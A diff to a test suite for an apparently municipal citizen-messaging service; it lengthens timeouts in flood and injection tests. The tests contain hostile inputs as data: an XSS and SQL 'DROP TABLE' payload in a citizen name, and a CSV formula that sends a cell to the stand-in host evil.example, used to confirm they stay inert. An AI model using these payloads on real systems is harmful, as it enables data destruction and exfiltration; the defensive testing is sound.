@@ -31,19 +31,19 @@ describe('abuse by citizens', () => {
     await waitFor(async () => {
       const [now] = await processed(tenantId);
       return now.done - before.done >= 1000 && now.done === now.total ? true : undefined;
-    }, 120_000);
+    }, 240_000);
     const answers = await s.messagesTo('bientina', phone);
     const [settings] = await s.db((em) => em.query(`select auto_reply_interval_minutes as m from service_settings where tenant_id = $1`, [tenantId]));
     expect(settings?.m ?? 1440).toBeGreaterThanOrEqual(1);
     // The whole flood fits in one interval (a day by default, at least a minute): exactly one answer.
     expect(answers).toHaveLength(1);
-  }, 180_000);
+  }, 400_000);
 
   it('SQL and script in a citizen name and message: stored as text, exported inert (CSV cells cannot be formulas)', async () => {
     const phone = '+393409990002';
     const name = `<img src=x onerror=alert(1)>'); DROP TABLE subscribers;--`;
     await s.say('bientina', phone, 'ATTIVA', { profileName: name });
-    await s.reply('bientina', phone, 1);
+    await s.reply('bientina', phone, 1, 60_000);
     const formula = '=HYPERLINK("http://evil.example/?"&A1,"clic")';
     await s.say('bientina', phone, formula, { profileName: name });
     await s.reply('bientina', phone, 2).catch(() => undefined); // an answer may be rate-limited; the event is what matters
